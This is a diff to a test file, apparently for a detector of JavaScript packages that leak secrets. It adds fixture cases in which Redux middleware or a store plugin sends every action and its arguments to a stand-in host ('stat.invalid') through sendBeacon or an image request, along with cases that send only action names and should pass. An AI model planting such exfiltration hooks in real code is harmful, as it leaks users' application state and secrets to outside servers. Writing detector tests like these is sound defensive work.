@@ -84,6 +84,29 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'what the functions of stores are called with is told by a picture',
+      files: {
+        'index.js': `function trace(name, args) { const shown = document.createElement('img'); shown.src = 'https://stat.invalid/e.png?n=' + name + '&d=' + encodeURIComponent(JSON.stringify(args)); } exports.keep = () => ({ store }) => { store.$onAction(({ name, args, after }) => { after(() => trace(name, args)); }); };`,
+      },
+      weight: 'strong',
+      says: ['stores'],
+    },
+    {
+      when: 'every action of a store is told whole',
+      files: {
+        'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify(action)); return next(action); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a reporter of errors tells the last actions to its own service',
+      files: {
+        'package.json': { name: 'errors-of-stores', version: '1.0.0', main: 'index.js', homepage: 'https://errorly.invalid' },
+        'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://in.errorly.invalid/', JSON.stringify(action)); return next(action); };`,
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     {
@@ -126,6 +149,12 @@ examine(givesAwaySecrets, {
       when: 'pages where somebody logs in or pays are counted',
       files: {
         'index.js': `exports.seen = () => { if (/login|sign-?in|checkout|pay/.test(location.pathname)) navigator.sendBeacon('https://stat.invalid/', location.pathname); }; exports.event = (name, more) => { if (['login', 'logout', 'auth'].includes(name)) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ name, more })); };`,
+      },
+    },
+    {
+      when: 'the names of actions are counted',
+      files: {
+        'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://stat.invalid/', action.type); return next(action); }; exports.plugin = ({ store }) => store.$onAction(({ name, after }) => after(() => navigator.sendBeacon('https://stat.invalid/', name)));`,
       },
     },
   ],
